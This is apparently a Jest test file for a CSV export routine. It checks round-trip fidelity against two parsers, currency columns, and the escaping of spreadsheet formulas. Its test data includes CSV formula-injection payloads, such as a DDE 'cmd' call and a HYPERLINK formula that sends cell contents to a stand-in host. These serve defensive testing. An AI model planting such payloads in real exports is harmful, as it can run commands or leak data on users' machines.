import { spawnSync } from "node:child_process";
import { describe, expect, it } from "@jest/globals";
import { parse } from "csv-parse/sync";
import type { Currencies } from "../../../src/contract/currencies.ts";
import { toCsv } from "../../../src/domain/items/csv.ts";

type Item = Record<string, unknown>;

const write = async (
  items: readonly Item[],
  columns: readonly string[],
  formulas: "escape" | "keep" = "keep",
  currencies?: Currencies,
): Promise<string> => {
  const lines = async function* () {
    for (const item of items) yield JSON.stringify(item);
  };
  let csv = "";
  for await (const chunk of toCsv(lines(), columns, { formulas, currencies })) csv += chunk;
  return csv;
};

/** A cell of a row of two, so that its place among others shows too. */
const cellOf = async (value: string, formulas: "escape" | "keep" = "escape"): Promise<string | undefined> => {
  const csv = await write([{ a: value, b: "end" }], ["a", "b"], formulas);
  const [, row] = parse(csv) as string[][];
  expect(row?.[1]).toBe("end");
  return row?.[0];
};

const HOSTILE = [
  "a\nb",
  "a\rb",
  "a\r\nb",
  "\n=1+1",
  "\r=1+1",
  "x\r=cmd|'/c calc'!A0",
  'say "hi"',
  '"',
  '""',
  "a,b",
  ";",
  " padded ",
  "\u00a0padded\u00a0",
  "\t",
  "\ufeffbom",
  "\u2028line\u2029",
  "\u0085next",
  "\u000bvertical\u000c",
  "'",
  "",
  "مرحبا, بالعالم",
  '漢字\n"かな"',
  "👩‍👩‍👧",
  "-5.50",
  '=HYPERLINK("http://x/?"&A1)',
  "#comment",
  "\\",
  '\\"',
];

const ITEMS: Item[] = HOSTILE.map((value, index) => ({
  [value]: index,
  a: value,
  "=k": "x",
  constructor: "own",
}));
const COLUMNS = [...new Set(["a", "=k", "constructor", "__proto__", ...HOSTILE])];
const EXPECTED = [
  COLUMNS,
  ...ITEMS.map((item) => COLUMNS.map((name) => (Object.hasOwn(item, name) ? String(item[name]) : ""))),
];

const hasPython = spawnSync("python3", ["--version"]).status === 0;
const READ_BACK =
  "import csv,io,json,sys\n" +
  "text=sys.stdin.buffer.read().decode('utf-8')\n" +
  "json.dump(list(csv.reader(io.StringIO(text,newline=''),strict=True)),sys.stdout)";

describe("CSV, read back", () => {
  it("contains every value and every key unchanged, according to csv-parse", async () => {
    expect(parse(await write(ITEMS, COLUMNS))).toEqual(EXPECTED);
  });

  // Without Python there is no second reader to ask.
  (hasPython ? it : it.skip)(
    "contains every value and every key unchanged, according to Python's csv",
    async () => {
      const { stdout, stderr } = spawnSync("python3", ["-c", READ_BACK], {
        input: await write(ITEMS, COLUMNS),
      });
      expect(stderr.toString()).toBe("");
      expect(JSON.parse(stdout.toString())).toEqual(EXPECTED);
    },
  );

  it("keeps every row of a single column", async () => {
    const items = [{ a: "" }, { a: null }, {}, { a: "x" }];
    expect(parse(await write(items, ["a"]))).toEqual([["a"], [""], [""], [""], ["x"]]);
  });

  it("ends every row with CRLF, whatever its values contain", async () => {
    const csv = await write([{ a: "x\ny", b: "x\ry" }], ["a", "b"]);
    expect(csv).toBe('a,b\r\n"x\ny","x\ry"\r\n');
  });
});

describe("currencies in CSV", () => {
  const items = [{ name: "Lamp", price: 20 }, { name: "Free", price: null }, { name: "On request" }];

  it("are in a column after the fields if they are known", async () => {
    const csv = await write(items, ["price", "name"], "keep", { price: "GBP" });
    expect(csv).toBe("price,name,priceCurrency\r\n20,Lamp,GBP\r\n,Free,\r\n,On request,\r\n");
  });

  it("leave the column empty if the items have different ones", async () => {
    const csv = await write(items, ["price"], "keep", { price: null });
    expect(parse(csv)).toEqual([
      ["price", "priceCurrency"],
      ["20", ""],
      ["", ""],
      ["", ""],
    ]);
  });

  it("never replace a field of the same name, and are left out for fields that are not exported", async () => {
    const own = [{ price: 20, priceCurrency: "pounds" }];
    const csv = await write(own, ["price", "priceCurrency"], "keep", { price: "GBP", fee: "EUR" });
    expect(csv).toBe("price,priceCurrency\r\n20,pounds\r\n");
  });
});

describe("formulas in CSV", () => {
  it.each([
    "=1+1",
    "+cmd()",
    "-2+A1",
    "@SUM(A1)",
    "|calc",
    ";=1+1",
    "\u2212A1",
    "＝1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u2060\u200d@x",
    "\ufeff=1+1",
    "\u00ad=1+1",
    "\t=1+1",
    "\ttext",
    "\u0000=1+1",
    "-5 degrees",
    "+49 30 =1",
  ])("are escaped: %j", async (text) => {
    expect(await cellOf(text)).toBe(`'${text}`);
    expect(await cellOf(text, "keep")).toBe(text);
  });

  it.each([
    "-5.50",
    "+5",
    "\u22125,50",
    "-1,234.5",
    "-1'234.50",
    "-3e-7",
    "-12 %",
    "-5,50 €",
    "-$5.00",
    "+49 30 901820",
    "+1 (555) 010-9999",
    "+33/1.42.68.53.00",
    "+49\u00a030\u00a0123",
    "text = 1",
    "a-b",
    "'quoted",
  ])("are not detected in %j", async (text) => {
    expect(await cellOf(text)).toBe(text);
  });

  it("are escaped in column names, and never detected in numbers", async () => {
    const csv = await write([{ "=k": -5, b: [-1] }], ["=k", "b"], "escape");
    expect(csv).toBe("'=k,b\r\n-5,[-1]\r\n");
  });
});
